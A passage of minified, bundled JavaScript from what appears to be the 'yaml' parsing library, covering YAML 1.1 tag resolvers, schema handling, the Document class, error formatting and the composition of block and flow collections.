IA.Scalar(parseFloat(n.replace(/_/g,""))),t=n.indexOf(".");if(t!==-1){let s=n.substring(t+1).replace(/_/g,"");s[s.length-1]==="0"&&(e.minFractionDigits=s.length)}return e},stringify:vu.stringifyNumber};ea.float=qA;ea.floatExp=jA;ea.floatNaN=PA});var py=D(wi=>{"use strict";var uy=ms(),bi=n=>typeof n=="bigint"||Number.isInteger(n);function ta(n,e,t,{intAsBigInt:s}){let i=n[0];if((i==="-"||i==="+")&&(e+=1),n=n.substring(e).replace(/_/g,""),s){switch(t){case 2:n=`0b${n}`;break;case 8:n=`0o${n}`;break;case 16:n=`0x${n}`;break}let o=BigInt(n);return i==="-"?BigInt(-1)*o:o}let r=parseInt(n,t);return i==="-"?-1*r:r}function ku(n,e,t){let{value:s}=n;if(bi(s)){let i=s.toString(e);return s<0?"-"+t+i.substr(1):t+i}return uy.stringifyNumber(n)}var UA={identify:bi,default:!0,tag:"tag:yaml.org,2002:int",format:"BIN",test:/^[-+]?0b[0-1_]+$/,resolve:(n,e,t)=>ta(n,2,2,t),stringify:n=>ku(n,2,"0b")},HA={identify:bi,default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^[-+]?0[0-7_]+$/,resolve:(n,e,t)=>ta(n,1,8,t),stringify:n=>ku(n,8,"0")},YA={identify:bi,default:!0,tag:"tag:yaml.org,2002:int",test:/^[-+]?[0-9][0-9_]*$/,resolve:(n,e,t)=>ta(n,0,10,t),stringify:uy.stringifyNumber},WA={identify:bi,default:!0,tag:"tag:yaml.org,2002:int",format:"HEX",test:/^[-+]?0x[0-9a-fA-F_]+$/,resolve:(n,e,t)=>ta(n,2,16,t),stringify:n=>ku(n,16,"0x")};wi.int=YA;wi.intBin=UA;wi.intHex=WA;wi.intOct=HA});var Ru=D(xu=>{"use strict";var ia=ee(),na=Xt(),sa=Qt(),An=class n extends sa.YAMLMap{constructor(e){super(e),this.tag=n.tag}add(e){let t;ia.isPair(e)?t=e:e&&typeof e=="object"&&"key"in e&&"value"in e&&e.value===null?t=new na.Pair(e.key,null):t=new na.Pair(e,null),sa.findPair(this.items,t.key)||this.items.push(t)}get(e,t){let s=sa.findPair(this.items,e);return!t&&ia.isPair(s)?ia.isScalar(s.key)?s.key.value:s.key:s}set(e,t){if(typeof t!="boolean")throw new Error(`Expected boolean value for set(key, value) in a YAML set, not ${typeof t}`);let s=sa.findPair(this.items,e);s&&!t?this.items.splice(this.items.indexOf(s),1):!s&&t&&this.items.push(new na.Pair(e))}toJSON(e,t){return super.toJSON(e,t,Set)}toString(e,t,s){if(!e)return JSON.stringify(this);if(this.hasAllNullValues(!0))return super.toString(Object.assign({},e,{allNullValues:!0}),t,s);throw new Error("Set items must all have null values")}static from(e,t,s){let{replacer:i}=s,r=new this(e);if(t&&Symbol.iterator in Object(t))for(let o of t)typeof i=="function"&&(o=i.call(t,o,o)),r.items.push(na.createPair(o,null,s));return r}};An.tag="tag:yaml.org,2002:set";var BA={collection:"map",identify:n=>n instanceof Set,nodeClass:An,default:!1,tag:"tag:yaml.org,2002:set",createNode:(n,e,t)=>An.from(n,e,t),resolve(n,e){if(ia.isMap(n)){if(n.hasAllNullValues(!0))return Object.assign(new An,n);e("Set items must all have null values")}else e("Expected a mapping for this tag");return n}};xu.YAMLSet=An;xu.set=BA});var Su=D(ra=>{"use strict";var GA=ms();function Ou(n,e){let t=n[0],s=t==="-"||t==="+"?n.substring(1):n,i=o=>e?BigInt(o):Number(o),r=s.replace(/_/g,"").split(":").reduce((o,a)=>o*i(60)+i(a),i(0));return t==="-"?i(-1)*r:r}function dy(n){let{value:e}=n,t=o=>o;if(typeof e=="bigint")t=o=>BigInt(o);else if(isNaN(e)||!isFinite(e))return GA.stringifyNumber(n);let s="";e<0&&(s="-",e*=t(-1));let i=t(60),r=[e%i];return e<60?r.unshift(0):(e=(e-r[0])/i,r.unshift(e%i),e>=60&&(e=(e-r[0])/i,r.unshift(e))),s+r.map(o=>String(o).padStart(2,"0")).join(":").replace(/000000\d*$/,"")}var VA={identify:n=>typeof n=="bigint"||Number.isInteger(n),default:!0,tag:"tag:yaml.org,2002:int",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,resolve:(n,e,{intAsBigInt:t})=>Ou(n,t),stringify:dy},zA={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,resolve:n=>Ou(n,!1),stringify:dy},fy={identify:n=>n instanceof Date,default:!0,tag:"tag:yaml.org,2002:timestamp",test:RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),resolve(n){let e=n.match(fy.test);if(!e)throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");let[,t,s,i,r,o,a]=e.map(Number),c=e[7]?Number((e[7]+"00").substr(1,3)):0,l=Date.UTC(t,s-1,i,r||0,o||0,a||0,c),u=e[8];if(u&&u!=="Z"){let p=Ou(u,!1);Math.abs(p)<30&&(p*=60),l-=6e4*p}return new Date(l)},stringify:({value:n})=>n?.toISOString().replace(/(T00:00:00)?\.000Z$/,"")??""};ra.floatTime=zA;ra.intTime=VA;ra.timestamp=fy});var gy=D(my=>{"use strict";var KA=fs(),JA=Go(),XA=hs(),ZA=mi(),QA=hu(),hy=cy(),Mu=ly(),oa=py(),eN=Po(),tN=bu(),nN=Qo(),sN=Ru(),Au=Su(),iN=[KA.map,XA.seq,ZA.string,JA.nullTag,hy.trueTag,hy.falseTag,oa.intBin,oa.intOct,oa.int,oa.intHex,Mu.floatNaN,Mu.floatExp,Mu.float,QA.binary,eN.merge,tN.omap,nN.pairs,sN.set,Au.intTime,Au.floatTime,Au.timestamp];my.schema=iN});var My=D(_u=>{"use strict";var vy=fs(),rN=Go(),ky=hs(),oN=mi(),aN=ou(),Nu=cu(),Eu=uu(),cN=Kg(),lN=Zg(),xy=hu(),vi=Po(),Ry=bu(),Oy=Qo(),yy=gy(),Sy=Ru(),aa=Su(),by=new Map([["core",cN.schema],["failsafe",[vy.map,ky.seq,oN.string]],["json",lN.schema],["yaml11",yy.schema],["yaml-1.1",yy.schema]]),wy={binary:xy.binary,bool:aN.boolTag,float:Nu.float,floatExp:Nu.floatExp,floatNaN:Nu.floatNaN,floatTime:aa.floatTime,int:Eu.int,intHex:Eu.intHex,intOct:Eu.intOct,intTime:aa.intTime,map:vy.map,merge:vi.merge,null:rN.nullTag,omap:Ry.omap,pairs:Oy.pairs,seq:ky.seq,set:Sy.set,timestamp:aa.timestamp},uN={"tag:yaml.org,2002:binary":xy.binary,"tag:yaml.org,2002:merge":vi.merge,"tag:yaml.org,2002:omap":Ry.omap,"tag:yaml.org,2002:pairs":Oy.pairs,"tag:yaml.org,2002:set":Sy.set,"tag:yaml.org,2002:timestamp":aa.timestamp};function pN(n,e,t){let s=by.get(e);if(s&&!n)return t&&!s.includes(vi.merge)?s.concat(vi.merge):s.slice();let i=s;if(!i)if(Array.isArray(n))i=[];else{let r=Array.from(by.keys()).filter(o=>o!=="yaml11").map(o=>JSON.stringify(o)).join(", ");throw new Error(`Unknown schema "${e}"; use one of ${r} or define customTags array`)}if(Array.isArray(n))for(let r of n)i=i.concat(r);else typeof n=="function"&&(i=n(i.slice()));return t&&(i=i.concat(vi.merge)),i.reduce((r,o)=>{let a=typeof o=="string"?wy[o]:o;if(!a){let c=JSON.stringify(o),l=Object.keys(wy).map(u=>JSON.stringify(u)).join(", ");throw new Error(`Unknown custom tag ${c}; use one of ${l}`)}return r.includes(a)||r.push(a),r},[])}_u.coreKnownTags=uN;_u.getTags=pN});var Du=D(Ay=>{"use strict";var $u=ee(),dN=fs(),fN=hs(),hN=mi(),ca=My(),mN=(n,e)=>n.key<e.key?-1:n.key>e.key?1:0,Cu=class n{constructor({compat:e,customTags:t,merge:s,resolveKnownTags:i,schema:r,sortMapEntries:o,toStringDefaults:a}){this.compat=Array.isArray(e)?ca.getTags(e,"compat"):e?ca.getTags(null,e):null,this.name=typeof r=="string"&&r||"core",this.knownTags=i?ca.coreKnownTags:{},this.tags=ca.getTags(t,this.name,s),this.toStringOptions=a??null,Object.defineProperty(this,$u.MAP,{value:dN.map}),Object.defineProperty(this,$u.SCALAR,{value:hN.string}),Object.defineProperty(this,$u.SEQ,{value:fN.seq}),this.sortMapEntries=typeof o=="function"?o:o===!0?mN:null}clone(){let e=Object.create(n.prototype,Object.getOwnPropertyDescriptors(this));return e.tags=this.tags.slice(),e}};Ay.Schema=Cu});var Ey=D(Ny=>{"use strict";var gN=ee(),Fu=di(),ki=ci();function yN(n,e){let t=[],s=e.directives===!0;if(e.directives!==!1&&n.directives){let c=n.directives.toString(n);c?(t.push(c),s=!0):n.directives.docStart&&(s=!0)}s&&t.push("---");let i=Fu.createStringifyContext(n,e),{commentString:r}=i.options;if(n.commentBefore){t.length!==1&&t.unshift("");let c=r(n.commentBefore);t.unshift(ki.indentComment(c,""))}let o=!1,a=null;if(n.contents){if(gN.isNode(n.contents)){if(n.contents.spaceBefore&&s&&t.push(""),n.contents.commentBefore){let u=r(n.contents.commentBefore);t.push(ki.indentComment(u,""))}i.forceBlockIndent=!!n.comment,a=n.contents.comment}let c=a?void 0:()=>o=!0,l=Fu.stringify(n.contents,i,()=>a=null,c);a&&(l+=ki.lineComment(l,"",r(a))),(l[0]==="|"||l[0]===">")&&t[t.length-1]==="---"?t[t.length-1]=`--- ${l}`:t.push(l)}else t.push(Fu.stringify(n.contents,i));if(n.directives?.docEnd)if(n.comment){let c=r(n.comment);c.includes(`
`)?(t.push("..."),t.push(ki.indentComment(c,""))):t.push(`... ${c}`)}else t.push("...");else{let c=n.comment;c&&o&&(c=c.replace(/^\n+/,"")),c&&((!o||a)&&t[t.length-1]!==""&&t.push(""),t.push(ki.indentComment(r(c),"")))}return t.join(`
`)+`
`}Ny.stringifyDocument=yN});var xi=D(_y=>{"use strict";var bN=oi(),gs=No(),at=ee(),wN=Xt(),vN=Vt(),kN=Du(),xN=Ey(),Tu=Oo(),RN=jl(),ON=ai(),Lu=Pl(),Iu=class n{constructor(e,t,s){this.commentBefore=null,this.comment=null,this.errors=[],this.warnings=[],Object.defineProperty(this,at.NODE_TYPE,{value:at.DOC});let i=null;typeof t=="function"||Array.isArray(t)?i=t:s===void 0&&t&&(s=t,t=void 0);let r=Object.assign({intAsBigInt:!1,keepSourceTokens:!1,logLevel:"warn",prettyErrors:!0,strict:!0,stringKeys:!1,uniqueKeys:!0,version:"1.2"},s);this.options=r;let{version:o}=r;s?._directives?(this.directives=s._directives.atDocument(),this.directives.yaml.explicit&&(o=this.directives.yaml.version)):this.directives=new Lu.Directives({version:o}),this.setSchema(o,s),this.contents=e===void 0?null:this.createNode(e,i,s)}clone(){let e=Object.create(n.prototype,{[at.NODE_TYPE]:{value:at.DOC}});return e.commentBefore=this.commentBefore,e.comment=this.comment,e.errors=this.errors.slice(),e.warnings=this.warnings.slice(),e.options=Object.assign({},this.options),this.directives&&(e.directives=this.directives.clone()),e.schema=this.schema.clone(),e.contents=at.isNode(this.contents)?this.contents.clone(e.schema):this.contents,this.range&&(e.range=this.range.slice()),e}add(e){ys(this.contents)&&this.contents.add(e)}addIn(e,t){ys(this.contents)&&this.contents.addIn(e,t)}createAlias(e,t){if(!e.anchor){let s=Tu.anchorNames(this);e.anchor=!t||s.has(t)?Tu.findNewAnchor(t||"a",s):t}return new bN.Alias(e.anchor)}createNode(e,t,s){let i;if(typeof t=="function")e=t.call({"":e},"",e),i=t;else if(Array.isArray(t)){let g=v=>typeof v=="number"||v instanceof String||v instanceof Number,w=t.filter(g).map(String);w.length>0&&(t=t.concat(w)),i=t}else s===void 0&&t&&(s=t,t=void 0);let{aliasDuplicateObjects:r,anchorPrefix:o,flow:a,keepUndefined:c,onTagObj:l,tag:u}=s??{},{onAnchor:p,setAnchors:d,sourceObjects:f}=Tu.createNodeAnchors(this,o||"a"),h={aliasDuplicateObjects:r??!0,keepUndefined:c??!1,onAnchor:p,onTagObj:l,replacer:i,schema:this.schema,sourceObjects:f},m=ON.createNode(e,u,h);return a&&at.isCollection(m)&&(m.flow=!0),d(),m}createPair(e,t,s={}){let i=this.createNode(e,null,s),r=this.createNode(t,null,s);return new wN.Pair(i,r)}delete(e){return ys(this.contents)?this.contents.delete(e):!1}deleteIn(e){return gs.isEmptyPath(e)?this.contents==null?!1:(this.contents=null,!0):ys(this.contents)?this.contents.deleteIn(e):!1}get(e,t){return at.isCollection(this.contents)?this.contents.get(e,t):void 0}getIn(e,t){return gs.isEmptyPath(e)?!t&&at.isScalar(this.contents)?this.contents.value:this.contents:at.isCollection(this.contents)?this.contents.getIn(e,t):void 0}has(e){return at.isCollection(this.contents)?this.contents.has(e):!1}hasIn(e){return gs.isEmptyPath(e)?this.contents!==void 0:at.isCollection(this.contents)?this.contents.hasIn(e):!1}set(e,t){this.contents==null?this.contents=gs.collectionFromPath(this.schema,[e],t):ys(this.contents)&&this.contents.set(e,t)}setIn(e,t){gs.isEmptyPath(e)?this.contents=t:this.contents==null?this.contents=gs.collectionFromPath(this.schema,Array.from(e),t):ys(this.contents)&&this.contents.setIn(e,t)}setSchema(e,t={}){typeof e=="number"&&(e=String(e));let s;switch(e){case"1.1":this.directives?this.directives.yaml.version="1.1":this.directives=new Lu.Directives({version:"1.1"}),s={resolveKnownTags:!1,schema:"yaml-1.1"};break;case"1.2":case"next":this.directives?this.directives.yaml.version=e:this.directives=new Lu.Directives({version:e}),s={resolveKnownTags:!0,schema:"core"};break;case null:this.directives&&delete this.directives,s=null;break;default:{let i=JSON.stringify(e);throw new Error(`Expected '1.1', '1.2' or null as first argument, but found: ${i}`)}}if(t.schema instanceof Object)this.schema=t.schema;else if(s)this.schema=new kN.Schema(Object.assign(s,t));else throw new Error("With a null YAML version, the { schema: Schema } option is required")}toJS({json:e,jsonArg:t,mapAsMap:s,maxAliasCount:i,onAnchor:r,reviver:o}={}){let a={anchors:new Map,doc:this,keep:!e,mapAsMap:s===!0,mapKeyWarned:!1,maxAliasCount:typeof i=="number"?i:100},c=vN.toJS(this.contents,t??"",a);if(typeof r=="function")for(let{count:l,res:u}of a.anchors.values())r(u,l);return typeof o=="function"?RN.applyReviver(o,{"":c},"",c):c}toJSON(e,t){return this.toJS({json:!0,jsonArg:e,mapAsMap:!1,onAnchor:t})}toString(e={}){if(this.errors.length>0)throw new Error("Document with errors cannot be stringified");if("indent"in e&&(!Number.isInteger(e.indent)||Number(e.indent)<=0)){let t=JSON.stringify(e.indent);throw new Error(`"indent" option must be a positive integer, not ${t}`)}return xN.stringifyDocument(this,e)}};function ys(n){if(at.isCollection(n))return!0;throw new Error("Expected a YAML collection as document contents")}_y.Document=Iu});var Si=D(Oi=>{"use strict";var Ri=class extends Error{constructor(e,t,s,i){super(),this.name=e,this.code=s,this.message=i,this.pos=t}},Pu=class extends Ri{constructor(e,t,s){super("YAMLParseError",e,t,s)}},ju=class extends Ri{constructor(e,t,s){super("YAMLWarning",e,t,s)}},SN=(n,e)=>t=>{if(t.pos[0]===-1)return;t.linePos=t.pos.map(a=>e.linePos(a));let{line:s,col:i}=t.linePos[0];t.message+=` at line ${s}, column ${i}`;let r=i-1,o=n.substring(e.lineStarts[s-1],e.lineStarts[s]).replace(/[\n\r]+$/,"");if(r>=60&&o.length>80){let a=Math.min(r-39,o.length-79);o="\u2026"+o.substring(a),r-=a-1}if(o.length>80&&(o=o.substring(0,79)+"\u2026"),s>1&&/^ *$/.test(o.substring(0,r))){let a=n.substring(e.lineStarts[s-2],e.lineStarts[s-1]);a.length>80&&(a=a.substring(0,79)+`\u2026
`),o=a+o}if(/[^ ]/.test(o)){let a=1,c=t.linePos[1];c?.line===s&&c.col>i&&(a=Math.max(1,Math.min(c.col-i,80-r)));let l=" ".repeat(r)+"^".repeat(a);t.message+=`:

${o}
${l}
`}};Oi.YAMLError=Ri;Oi.YAMLParseError=Pu;Oi.YAMLWarning=ju;Oi.prettifyError=SN});var Mi=D($y=>{"use strict";function MN(n,{flow:e,indicator:t,next:s,offset:i,onError:r,parentIndent:o,startOnNewline:a}){let c=!1,l=a,u=a,p="",d="",f=!1,h=!1,m=null,g=null,w=null,v=null,O=null,S=null,A=null;for(let _ of n)switch(h&&(_.type!=="space"&&_.type!=="newline"&&_.type!=="comma"&&r(_.offset,"MISSING_CHAR","Tags and anchors must be separated from the next token by white space"),h=!1),m&&(l&&_.type!=="comment"&&_.type!=="newline"&&r(m,"TAB_AS_INDENT","Tabs are not allowed as indentation"),m=null),_.type){case"space":!e&&(t!=="doc-start"||s?.type!=="flow-collection")&&_.source.includes("	")&&(m=_),u=!0;break;case"comment":{u||r(_,"MISSING_CHAR","Comments must be separated from other tokens by white space characters");let q=_.source.substring(1)||" ";p?p+=d+q:p=q,d="",l=!1;break}case"newline":l?p?p+=_.source:(!S||t!=="seq-item-ind")&&(c=!0):d+=_.source,l=!0,f=!0,(g||w)&&(v=_),u=!0;break;case"anchor":g&&r(_,"MULTIPLE_ANCHORS","A node can have at most one anchor"),_.source.endsWith(":")&&r(_.offset+_.source.length-1,"BAD_ALIAS","Anchor ending in : is ambiguous",!0),g=_,A??(A=_.offset),l=!1,u=!1,h=!0;break;case"tag":{w&&r(_,"MULTIPLE_TAGS","A node can have at most one tag"),w=_,A??(A=_.offset),l=!1,u=!1,h=!0;break}case t:(g||w)&&r(_,"BAD_PROP_ORDER",`Anchors and tags must be after the ${_.source} indicator`),S&&r(_,"UNEXPECTED_TOKEN",`Unexpected ${_.source} in ${e??"collection"}`),S=_,l=t==="seq-item-ind"||t==="explicit-key-ind",u=!1;break;case"comma":if(e){O&&r(_,"UNEXPECTED_TOKEN",`Unexpected , in ${e}`),O=_,l=!1,u=!1;break}default:r(_,"UNEXPECTED_TOKEN",`Unexpected ${_.type} token`),l=!1,u=!1}let C=n[n.length-1],E=C?C.offset+C.source.length:i;return h&&s&&s.type!=="space"&&s.type!=="newline"&&s.type!=="comma"&&(s.type!=="scalar"||s.source!=="")&&r(s.offset,"MISSING_CHAR","Tags and anchors must be separated from the next token by white space"),m&&(l&&m.indent<=o||s?.type==="block-map"||s?.type==="block-seq")&&r(m,"TAB_AS_INDENT","Tabs are not allowed as indentation"),{comma:O,found:S,spaceBefore:c,comment:p,hasNewline:f,anchor:g,tag:w,newlineAfterProp:v,end:E,start:A??E}}$y.resolveProps=MN});var la=D(Cy=>{"use strict";function qu(n){if(!n)return null;switch(n.type){case"alias":case"scalar":case"double-quoted-scalar":case"single-quoted-scalar":if(n.source.includes(`
`))return!0;if(n.end){for(let e of n.end)if(e.type==="newline")return!0}return!1;case"flow-collection":for(let e of n.items){for(let t of e.start)if(t.type==="newline")return!0;if(e.sep){for(let t of e.sep)if(t.type==="newline")return!0}if(qu(e.key)||qu(e.value))return!0}return!1;default:return!0}}Cy.containsNewline=qu});var Uu=D(Dy=>{"use strict";var AN=la();function NN(n,e,t){if(e?.type==="flow-collection"){let s=e.end[0];s.indent===n&&(s.source==="]"||s.source==="}")&&AN.containsNewline(e)&&t(s,"BAD_INDENT","Flow end indicator should be more indented than parent",!0)}}Dy.flowIndentCheck=NN});var Hu=D(Ty=>{"use strict";var Fy=ee();function EN(n,e,t){let{uniqueKeys:s}=n.options;if(s===!1)return!1;let i=typeof s=="function"?s:(r,o)=>r===o||Fy.isScalar(r)&&Fy.isScalar(o)&&r.value===o.value;return e.some(r=>i(r.key,t))}Ty.mapIncludes=EN});var Uy=D(qy=>{"use strict";var Ly=Xt(),_N=Qt(),Iy=Mi(),$N=la(),Py=Uu(),CN=Hu(),jy="All mapping items must start at the same column";function DN({composeNode:n,composeEmptyNode:e},t,s,i,r){let o=r?.nodeClass??_N.YAMLMap,a=new o(t.schema);t.atRoot&&(t.atRoot=!1);let c=s.offset,l=null;for(let u of s.items){let{start:p,key:d,sep:f,value:h}=u,m=Iy.resolveProps(p,{indicator:"explicit-key-ind",next:d??f?.[0],offset:c,onError:i,parentIndent:s.indent,startOnNewline:!0}),g=!m.found;if(g){if(d&&(d.type==="block-seq"?i(c,"BLOCK_AS_IMPLICIT_KEY","A block sequence may not be used as an implicit map key"):"indent"in d&&d.indent!==s.indent&&i(c,"BAD_INDENT",jy)),!m.anchor&&!m.tag&&!f){l=m.end,m.comment&&(a.comment?a.comment+=`
`+m.comment:a.comment=m.comment);continue}(m.newlineAfterProp||$N.containsNewline(d))&&i(d??p[p.length-1],"MULTILINE_IMPLICIT_KEY","Implicit keys need to be on a single line")}else m.found?.indent!==s.indent&&i(c,"BAD_INDENT",jy);t.atKey=!0;let w=m.end,v=d?n(t,d,m,i):e(t,w,p,null,m,i);t.schema.compat&&Py.flowIndentCheck(s.indent,d,i),t.atKey=!1,CN.mapIncludes(t,a.items,v)&&i(w,"DUPLICATE_KEY","Map keys must be unique");let O=Iy.resolveProps(f??[],{indicator:"map-value-ind",next:h,offset:v.range[2],onError:i,parentIndent:s.indent,startOnNewline:!d||d.type==="block-scalar"});if(c=O.end,O.found){g&&(h?.type==="block-map"&&!O.hasNewline&&i(c,"BLOCK_AS_IMPLICIT_KEY","Nested mappings are not allowed in compact mappings"),t.options.strict&&m.start<O.found.offset-1024&&i(v.range,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit block mapping key"));let S=h?n(t,h,O,i):e(t,c,f,null,O,i);t.schema.compat&&Py.flowIndentCheck(s.indent,h,i),c=S.range[2];let A=new Ly.Pair(v,S);t.options.keepSourceTokens&&(A.srcToken=u),a.items.push(A)}else{g&&i(v.range,"MISSING_CHAR","Implicit map keys need to be followed by map values"),O.comment&&(v.comment?v.comment+=`
`+O.comment:v.comment=O.comment);let S=new Ly.Pair(v);t.options.keepSourceTokens&&(S.srcToken=u),a.items.push(S)}}return l&&l<c&&i(l,"IMPOSSIBLE","Map comment with trailing content"),a.range=[s.offset,c,l??c],a}qy.resolveBlockMap=DN});var Yy=D(Hy=>{"use strict";var FN=en(),TN=Mi(),LN=Uu();function IN({composeNode:n,composeEmptyNode:e},t,s,i,r){let o=r?.nodeClass??FN.YAMLSeq,a=new o(t.schema);t.atRoot&&(t.atRoot=!1),t.atKey&&(t.atKey=!1);let c=s.offset,l=null;for(let{start:u,value:p}of s.items){let d=TN.resolveProps(u,{indicator:"seq-item-ind",next:p,offset:c,onError:i,parentIndent:s.indent,startOnNewline:!0});if(!d.found)if(d.anchor||d.tag||p)p?.type==="block-seq"?i(d.end,"BAD_INDENT","All sequence items must start at the same column"):i(c,"MISSING_CHAR","Sequence item without - indicator");else{l=d.end,d.comment&&(a.comment=d.comment);continue}let f=p?n(t,p,d,i):e(t,d.end,u,null,d,i);t.schema.compat&&LN.flowIndentCheck(s.indent,p,i),c=f.range[2],a.items.push(f)}return a.range=[s.offset,c,l??c],a}Hy.resolveBlockSeq=IN});var bs=D(Wy=>{"use strict";function PN(n,e,t,s){let i="";if(n){let r=!1,o="";for(let a of n){let{source:c,type:l}=a;switch(l){case"space":r=!0;break;case"comment":{t&&!r&&s(a,"MISSING_CHAR","Comments must be separated from other tokens by white space characters");let u=c.substring(1)||" ";i?i+=o+u:i=u,o="";break}case"newline":i&&(o+=c),r=!0;break;default:s(a,"UNEXPECTED_TOKEN",`Unexpected ${l} at node end`)}e+=c.length}}return{comment:i,offset:e}}Wy.resolveEnd=PN});var zy=D(Vy=>{"use strict";var jN=ee(),qN=Xt(),By=Qt(),UN=en(),HN=bs(),Gy=Mi(),YN=la(),WN=Hu(),Yu="Block collections are not allowed within flow collections",Wu=n=>n&&(n.type==="block-map"||n.type==="block-seq");function BN({composeNode:n,composeEmptyNode:e},t,s,i,r){let o=s.start.source==="{",a=o?"flow map":"flow sequence",c=r?.nodeClass??(o?By.YAMLMap:UN.YAMLSeq),l=new c(t.schema);l.flow=!0;let u=t.atRoot;u&&(t.atRoot=!1),t.atKey&&(t.atKey=!1);let p=s.offset+s.start.source.length;for(let g=0;g<s.items.length;++g){let w=s.items[g],{start:v,key:O,sep:S,value:A}=w,C=Gy.resolveProps(v,{flow:a,indicator:"explicit-key-ind",next:O??S?.[0],offset:p,onError:i,parentIndent:s.indent,startOnNewline:!1});if(!C.found){if(!C.anchor&&!C.tag&&!S&&!A){g===0&&C.comma?i(C.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`):g<s.items.length-1&&i(C.start,"UNEXPECTED_TOKEN",`Unexpected empty item in ${a}`),C.comment&&(l.comment?l.comment+=`
`+C.comment:l.comment=C.comment),p=C.end;continue}!o&&t.options.strict&&YN.containsNewline(O)&&i(O,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line")}if(g===0)C.comma&&i(C.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`);else if(C.comma||i(C.start,"MISSING_CHAR",`Missing , between ${a} items`),C.comment){let E="";e:for(let _ of v)switch(_.type){case"comma":case"space":break;case"comment":E=_.source.substring(1);break e;default:break e}if(E){let _=l.items[l.items.length-1];jN.isPair(_)&&(_=_.value??_.key),_.comment?_.comment+=`
`+E:_.comment=E,C.comment=C.comment.substring(E.length+1)}}if(!o&&!S&&!C.found){let E=A?n(t,A,C,i):e(t,C.end,S,null,C,i);l.items.push(E),p=E.range[2],Wu(A)&&i(E.range,"BLOCK_IN_FLOW",Yu)}else{t.atKey=!0;let E=C.end,_=O?n(t,O,C,i):e(t,E,v,null,C,i);Wu(O)&&i(_.range,"BLOCK_IN_FLOW",Yu),t.atKey=!1;let q=Gy.resolveProps(S??[],{flow:a,indicator:"map-value-ind",next:A,offset:_.range[2],onError:i,parentIndent:s.indent,startOnNewline:!1});if(q.found){if(!o&&!C.found&&t.options.strict){if(S)for(let ue of S){if(ue===q.found)break;if(ue.type==="newline"){i(ue,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line");break}}C.start<q.found.offset-1024&&i(q.found,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit flow sequence key")}}else A&&("source"in A&&A.source?.[0]===":"?i(A,"MISSING_CHAR",`Missing space after : in ${a}`):i(q.start,"MISSING_CHAR",`Missing , or : between ${a} items`));let me=A?n(t,A,q,i):q.found?e(t,q.end,S,null,q,i):null;me?Wu(A)&&i(me.range,"BLOCK_IN_FLOW",Yu):q.comment&&(_.comment?_.comment+=`
`+q.comment:_.comment=q.comment);let we=new qN.Pair(_,me);if(t.options.keepSourceTokens&&(we.srcToken=w),o){let ue=l;WN.mapIncludes(t,ue.items,_)&&i(E,"DUPLICATE_KEY","Map keys must be unique"),ue.items.push(we)}else{let ue=new By.YAMLMap(t.schema);ue.flow=!0,ue.items.push(we);let xt=(me??_).range;ue.range=[_.range[0],xt[1],xt[2]],l.items.push(ue)}p=me?me.range[2]:q.end}}let d=o?"}":"]",[f,...h]=s.end,m=p;if(f?.source===d)m=f.offset+f.source.length;else{let g=a[0].toUpperCase()+a.substring(1),w=u?`${g} must end with a ${d}`:`${g} in block collection must be sufficiently indented and end with a ${d}`;i(p,u?"MISSING_CHAR":"BAD_INDENT",w),f&&f.source.length!==1&&h.unshift(f)}if(h.length>0){let g=HN.resolveEnd(h,m,t.options.strict,i);g.comment&&(l.comment?l.comment+=`
`+g.comment:l.comment=g.comment),l.range=[s.offset,m,g.offset]}else l.range=[s.offset,m,m];return l}Vy.resolveFlowCollection=BN});var Jy=D(Ky=>{"use strict";var GN=ee(),VN=Re(),zN=Qt(),KN=en(),JN=Uy(),XN=Yy(),ZN=zy();function Bu(n,e,t,s,i,r){let o=t.type==="block-map"?JN.resolveBlockMap(n,e,t,s,r):t.type==="block-seq"?XN.resolveBlockSeq(n,e,t,s,r):ZN.resolveFlowCollection(n,e,t,s,r),a=o.constructor;return i==="!"||i===a.tagName?(o.tag=a.tagName,o):(i&&(o.tag=i),o)}function QN(n,e,t,s,i){let r=s.tag,o=r?e.directives.tagName(r.source,d=>i(r,"TAG_RESOLVE_FAILED",d)):null;if(t.type==="block-seq"){let{anchor:d,newlineAfterProp:f}=s,h=d&&r?d.offset>r.offset?d:r:d??r;h&&(!f||f.offset<h.offset)&&i(h,"MISSING_CHAR","Missing newline after block sequence props")}let a=t.type==="block-map"?"map":t.type==="block-seq"?"seq":t.start.source==="{"?"map":"seq";if(!r||!o||o==="!"||o===zN.YAMLMap.tagName&&a==="map"||o===KN.YAMLSeq.tagName&&a==="seq")return Bu(n,e,t,i,o);let c=e.schema.tags.find(d=>d.tag===o&&d.collection===a);if(!c){let d=e.schema.knownTags[o];if(d?.collection===a)e.schema.tags.push(Object.assign({},d,{default:!1})),c=d;else return d?i(r,"BAD_COLLECTION_TYPE",`${d.tag} used for ${a} collection, but expects ${d.collection??"scalar"}`,!0):i(r,"TAG_RESOLVE_FAILED",`Unresolved tag: ${o}`,!0),Bu(n,e,t,i,o)}let l=Bu(n,e,t,i,o,c),u=c.resolve?.(l,d=>i(r,"TAG_RESOLVE_FAILED",d),e.options)??l,p=GN.isNode(u)?u:new VN.Scalar(u);return p.range=l.range,p.tag=o,c?.format&&(p.format=c.format),p}Ky.composeCollection=QN});var Vu=D(Xy=>{"use strict";var Gu=Re();function eE(n,e,t){let s=e.offset,i=tE(e,n.options.strict,t);if(!i)return{value:"",type:null,comment:"",range:[s,s,s]};let r=i.mode===">"?Gu.Scalar.BLOCK_FOLDED:Gu.Scalar.BLOCK_LITERAL,o=e.source?nE(e.source):[],a=o.length;for(let m=o.length-1;m>=0;--m){let g=o[m][1];if(g===""||g==="\r")a=m;else 